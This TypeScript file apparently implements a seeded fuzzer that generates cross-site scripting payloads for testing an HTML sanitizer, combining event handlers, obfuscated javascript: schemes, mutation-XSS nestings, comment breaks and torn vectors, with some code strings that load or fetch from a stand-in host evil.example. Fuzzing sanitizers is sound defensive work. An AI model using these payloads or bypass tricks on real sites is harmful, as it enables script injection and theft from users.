import { vectors } from "./xss-vectors.ts";

/** The same numbers for the same seed, so that a payload can be reproduced by its number. */
function random(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

const kept =
  "p h1 h2 h3 strong b em i u s code pre blockquote br hr ul ol li div table tbody tr th td a img span";
const others =
  "script style iframe object embed svg math form input button select textarea title noscript template video audio source details marquee body html head meta link base image xmp plaintext noembed noframes frameset frame dialog mglyph mtext mi annotation-xml foreignObject desc animate set use x-own area map keygen isindex";
const tags = `${kept} ${kept} ${others}`.split(" ");
const handlers =
  "onerror onload onclick onfocus onmouseover onmouseenter onpointerdown onanimationstart ontoggle onbegin oninput onkeydown onpaste oncopy onscroll onbeforematch onwheel onauxclick oncontextmenu onsubmit onfocusin".split(
    " ",
  );
const plain =
  "href src srcdoc action formaction data poster background xlink:href style class id name data-type data-label data-id data-placeholder data-align data-checked data-language title alt colspan start srcset ping target is http-equiv content".split(
    " ",
  );
const gaps = [" ", " ", " ", "/", "\t", "\n", "\f", "\r", " / ", "\u00a0", "\0"];
const hidden = [
  "",
  "",
  "",
  "\t",
  "\n",
  "\r",
  "&Tab;",
  "&NewLine;",
  "&#9;",
  "&#x0a;",
  "\u0001",
  "\u00ad",
  "\u200b",
  "\ufeff",
  "\0",
];
const schemes = [
  "javascript",
  "JAVASCRIPT",
  "jAvAsCrIpT",
  "data",
  "vbscript",
  "livescript",
  "blob",
  "view-source",
  "file",
  "https",
];
const nests = [
  "svg",
  "math",
  "svg><foreignObject",
  "math><mtext",
  "math><annotation-xml encoding=text/html",
  "svg><desc",
  "svg><style",
  "math><mi",
  "table",
  "select",
  "noscript",
  "template",
  "style",
  "title",
  "textarea",
  "xmp",
  "p",
];
const breaks = [
  "-->",
  "--!>",
  "]]>",
  "</style>",
  "</title>",
  "</textarea>",
  "</noscript>",
  "</template>",
  "</svg>",
  "</math>",
  "</p>",
  '">',
  "'>",
  "`>",
  "</script>",
  "%>",
  "?>",
];

/** The payload of a number: mostly what the grammar makes, at times a known vector as it is or within. */
export function payload(number: number): string {
  const next = random(number);
  const below = (count: number) => Math.floor(next() * count);
  const one = <Item>(items: readonly Item[]): Item => items[below(items.length)]!;
  const chance = (share: number) => next() < share;
  const hit = `hit(${number})`;

  const code = () =>
    one([
      hit,
      hit,
      `top.${hit}`,
      `self["hit"](${number})`,
      `alert(${number})`,
      `(hit)(${number})`,
      `import("//evil.example/${number}.js")`,
      `fetch("//evil.example/")`,
      `hit&#40;${number}&#41;`,
      `hit&lpar;${number}&rpar;`,
      `location="//evil.example/"`,
    ]);
  const vector = () => one(vectors)(hit);
  const letters = (word: string) =>
    Array.from(word, (letter) => (chance(0.3) ? letter.toUpperCase() : letter)).join("");
  const entity = (letter: string) =>
    one([
      `&#${letter.charCodeAt(0)};`,
      `&#x${letter.charCodeAt(0).toString(16)};`,
      `&#0000${letter.charCodeAt(0)}`,
    ]);
  const scheme = () =>
    Array.from(
      one(schemes),
      (letter) => (chance(0.1) ? entity(letter) : letter) + (chance(0.08) ? one(hidden) : ""),
    ).join("");
  const address = () =>
    one([
      () =>
        `${one(hidden)}${scheme()}${one([":", ":", "&colon;", "&#58;", "\t:"])}${one(["", "", "//%0a", "//x\n", "text/html,<script>", "text/html;base64,", "image/svg+xml,<svg onload="])}${code()}`,
      () =>
        one([
          "//evil.example/",
          "\\\\evil.example\\",
          "/\\evil.example",
          "https:evil.example",
          "x",
          "#",
          "?",
          "/own",
          "https://evil.example/a.png",
        ]),
      () =>
        `data:image/${one(["png", "svg+xml", "gif"])};base64,${"A".repeat(below(40))}${one(["", "=", '"', "<"])}`,
    ])();
  const quoted = (value: string) =>
    one([
      () => `"${value}"`,
      () => `'${value}'`,
      () => value,
      () => `\`${value}\``,
      () => `"${value}`,
      () => `"${value.replaceAll("<", "&lt;").replaceAll('"', "&quot;")}"`,
    ])();
  const value = (depth: number): string =>
    one([
      code,
      address,
      address,
      vector,
      () => piece(depth + 1),
      () => `${one(breaks)}${vector()}`,
      () => (chance(0.05) ? "a".repeat(below(6000)) : "x"),
      () => `0;url=${address()}`,
      () => `color:red;background:url(${address()});text-align:center;font-weight:bold`,
    ])();
  const attribute = (depth: number) =>
    one(gaps) +
    (chance(0.45)
      ? `${letters(one(handlers))}${one(["=", "=", " =", "\n=\n", "\0="])}${quoted(code())}`
      : `${letters(one(plain))}=${quoted(value(depth))}`);
  const attributes = (depth: number) => Array.from({ length: below(4) }, () => attribute(depth)).join("");
  const open = (tag: string, depth: number) =>
    `<${chance(0.03) ? one(["\0", "/", " ", "<", "!", "?"]) : ""}${letters(tag)}${attributes(depth)}${one([">", ">", ">", ">", "/>", " >", "", "//>"])}`;
  const element = (depth: number) => {
    const tag = one(tags);
    return `${open(tag, depth)}${inside(depth)}${chance(0.75) ? `</${letters(tag)}${one(["", "", " ", "/", " x=1"])}>` : ""}`;
  };
  const inside = (depth: number) =>
    depth > 4
      ? one(["x", code(), vector()])
      : Array.from({ length: below(3) }, () => piece(depth + 1)).join("");
  const piece = (depth: number): string => {
    if (depth > 4) return one(["x", code(), vector()]);
    return one([
      () => element(depth),
      () => element(depth),
      () => element(depth),
      vector,
      () => `<${one(nests)}>${piece(depth + 1)}${chance(0.5) ? one(breaks) : ""}${piece(depth + 1)}`,
      () => `<a href=${quoted(address())}>x</a>`,
      () =>
        `${one(["<!--", "<!-->", "<!--->", "<![CDATA[", "<!x ", "<?x "])}${piece(depth + 1)}${one(breaks)}`,
      () => `<${letters(one(tags))}${one(gaps)}title="${one(breaks)}${vector()}">`,
      // What a single pass would put together by taking the middle away.
      () => torn(vector(), piece(depth + 1)),
      () => `${one(breaks)}${piece(depth + 1)}`,
      () => piece(depth + 1).replaceAll("<", one(["&lt;", "&#60;", "&LT", "&amp;lt;", "<<"])),
    ])();
  };
  const torn = (around: string, middle: string) => {
    const at = below(around.length);
    return around.slice(0, at) + middle + around.slice(at);
  };
  const whole = chance(0.1) ? vector() : Array.from({ length: 1 + below(3) }, () => piece(0)).join("");
  return chance(0.15) ? `<p>before</p>${whole}<p>after</p>` : whole;
}
